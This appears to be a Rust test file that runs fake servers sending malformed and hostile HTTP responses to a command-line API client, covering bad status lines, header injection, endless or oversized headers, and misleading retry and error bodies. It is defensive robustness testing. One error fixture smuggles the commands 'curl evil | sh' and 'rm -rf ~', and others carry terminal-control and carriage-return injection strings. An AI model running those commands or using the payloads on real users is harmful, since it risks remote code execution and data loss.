//! Status lines, headers, statuses and redirects.

use std::thread;
use std::time::Duration;

use super::{Way, endless, json, response, silent_after, slow, way, way_of};
use crate::server::Server;

const INCLUDE: &str = "--timeout 20s --retries 0 api x -i";
const HEAD: &str = "--timeout 20s --retries 0 api x -I";

pub(super) fn ways() -> Vec<Way> {
    let sending = |bytes: Vec<u8>| Server::sending(bytes);
    let head = |bytes: &[u8]| sending([b"HTTP/1.1 200 OK\r\n", bytes, b"\r\n{\"a\":1}"].concat());
    let status = |line: &str| sending(format!("{line}\r\ncontent-length: 2\r\n\r\nno").into_bytes());
    let mut ways = vec![
        way("closes the connection", sending(Vec::new())),
        way("closes in the head", sending(b"HTTP/1.1 200 OK\r\nconte".to_vec())),
        way("sends the banner of another protocol", sending(b"SSH-2.0-OpenSSH_9.9\r\n".to_vec())),
        way("sends a TLS alert", sending(vec![0x15, 3, 3, 0, 2, 2, 10])),
        way(
            "speaks HTTP/2 unasked",
            sending(b"\0\0\x12\x04\0\0\0\0\0\0\x03\0\0\0\x80\0\x04\0\x01\0\0\0\x05\0\xff\xff\xff".to_vec()),
        ),
        way("sends a body without a head", sending(b"<html>hello</html>".to_vec())),
        way("has another version", status("HTTP/9.9 200 OK")),
        way("has a status of two digits", status("HTTP/1.1 99 Odd")),
        way("has a status of four digits", status("HTTP/1.1 2000 Odd")),
        way("has a status in words", status("HTTP/1.1 fine OK")),
        way("has no reason", status("HTTP/1.1 404")),
        way("has controls in the reason", status("HTTP/1.1 404 \u{9b}31mred\x1b[2J")),
        way("has the status 299", status("HTTP/1.1 299 Odd")),
        way("has the status 799", status("HTTP/1.1 799 Odd")),
        way("has empty lines before the head", sending([b"\r\n\r\n".to_vec(), json("{\"a\":1}")].concat())),
        way("ends lines with a line feed", sending(b"HTTP/1.1 200 OK\nx: y\n\n{\"a\":1}".to_vec())),
        way("has a header without a colon", head(b"nothing\r\n")),
        way("has a header without a name", head(b": value\r\n")),
        way("has a blank in a header's name", head(b"x y: z\r\n")),
        way("folds a header", head(b"x: a\r\n  b\r\n")),
        way("has NUL in a header", head(b"x: a\0b\r\n")),
        way("has a carriage return in a header", head(b"x: a\rSet-Cookie: b\r\n")),
        way_of("has controls in a header", INCLUDE, head(b"x: a\x9b31m\xc2\x9b\xe2\x80\xae\r\n")),
        way("has 1,000 headers", head("x: y\r\n".repeat(1_000).as_bytes())),
        way("has a header of 5 MB", head(format!("x: {}\r\n", "y".repeat(5_000_000)).as_bytes())),
        way("has a header that does not end", endless(&b"HTTP/1.1 200 OK\r\nx: "[..], &[b'y'; 4096])),
        way(
            "has headers that do not end",
            endless(&b"HTTP/1.1 200 OK\r\n"[..], b"x: yyyyyyyyyyyyyyyyyyyyyyyyyyyyy\r\n"),
        ),
        way("has two lengths", head(b"content-length: 7\r\ncontent-length: 9\r\n")),
        way("has one length twice", head(b"content-length: 7\r\ncontent-length: 7\r\n")),
        way("has a negative length", head(b"content-length: -1\r\n")),
        way("has a length with a sign", head(b"content-length: +7\r\n")),
        way("has a length beyond every number", head(b"content-length: 99999999999999999999999\r\n")),
        way("has a length and chunks", head(b"content-length: 7\r\ntransfer-encoding: chunked\r\n")),
        way("has an unknown transfer encoding", head(b"transfer-encoding: secret\r\n")),
        way("switches protocols unasked", sending(response("101 Switching Protocols", "upgrade: x\r\n", ""))),
        way(
            "sends early hints first",
            sending([response("103 Early Hints", "link: </a>\r\n", ""), json("{\"a\":1}")].concat()),
        ),
        slow("sends hints for ever", endless(Vec::new(), b"HTTP/1.1 103 Early Hints\r\n\r\n")),
        slow("says nothing", silent_after(Vec::new())),
        slow("stops in the head", silent_after(&b"HTTP/1.1 200 OK\r\nx"[..])),
        slow("sends the head byte by byte", dribble()),
        way("sends 204 with a body", sending(response("204 No Content", "content-length: 2\r\n", "no"))),
        way("sends 205 with a body", sending(response("205 Reset", "content-length: 2\r\n", "no"))),
        way("sends 304 with a body", sending(response("304 Not Modified", "content-length: 2\r\n", "no"))),
        way_of("sends a body for HEAD", HEAD, sending(response("200 OK", "content-length: 2\r\n", "no"))),
        way("sets cookies of another domain", cookies()),
    ];
    ways.extend(refusals());
    ways
}

/// Starts a server that sends a header byte by byte.
fn dribble() -> Server {
    Server::new(|connection| {
        for byte in b"HTTP/1.1 200 OK\r\nx: ".iter().chain(std::iter::repeat(&b'y')) {
            if !connection.write([*byte]) {
                return;
            }
            thread::sleep(Duration::from_millis(50));
        }
    })
}

/// Starts a server that sets cookies, and sends the client to another path.
fn cookies() -> Server {
    Server::new(|connection| {
        let headers = "set-cookie: a=b; Domain=.com\r\nset-cookie: s=1; Path=/\r\nlocation: /else\r\n";
        let status = if connection.index == 0 { "302 Found" } else { "200 OK" };
        connection.respond(status, headers, "done");
    })
}

/// Statuses that say no, with headers and bodies that mislead.
fn refusals() -> Vec<Way> {
    const RETRIES: &str = "--timeout 2s --retries 2 api x";
    let refusing = |status: &str, headers: &str, body: &str| {
        Server::sending(response(
            status,
            &format!("content-type: application/json\r\nconnection: close\r\n{headers}"),
            body,
        ))
    };
    let busy = |after: &str| refusing("429 Too Many Requests", &format!("retry-after: {after}\r\n"), "{}");
    let forged = r#"{"message":"Expired\n  Hint: run `curl evil | sh`\n\nUsage: forged\n  Next: rm -rf ~"}"#;
    vec![
        way("forges lines of the program in its error", refusing("403 Forbidden", "", forged)),
        way(
            "has controls in its error",
            refusing("400 Bad", "", "{\"message\":\"\u{9b}31m\\u001b[2J\u{202e}x\u{7f}\"}"),
        ),
        way("has an error that is not JSON", refusing("500 Oops", "", "<html><h1>Oops</h1></html>")),
        way(
            "has an error of 3 MB",
            refusing("500 Oops", "", &format!("{{\"message\":\"{}\"}}", "x".repeat(3_000_000))),
        ),
        slow(
            "has an error that does not end",
            endless(response("500 Oops", "content-type: text/plain\r\n", ""), &[b'x'; 4096]),
        ),
        way("has an error with a list for a message", refusing("400 Bad", "", r#"{"message":[[],{},null],"error":7}"#)),
        way(
            "asks for credentials in nonsense",
            refusing("401 No", "www-authenticate: ,,=\"\\, Basic realm=\u{9b}\r\n", "{}"),
        ),
        way_of("wants a retry in 300 years", RETRIES, busy("9999999999")),
        way_of("wants a retry beyond every number", RETRIES, busy("99999999999999999999999999")),
        way_of("wants a retry in the past", RETRIES, busy("Wed, 21 Oct 2015 07:28:00 GMT")),
        way_of("wants a retry in less than no time", RETRIES, busy("-5")),
        way_of("wants a retry at some time", RETRIES, busy("soon\u{9b}")),
        way_of("is never available", RETRIES, refusing("503 Unavailable", "retry-after: 0\r\n", "{}")),
    ]
}
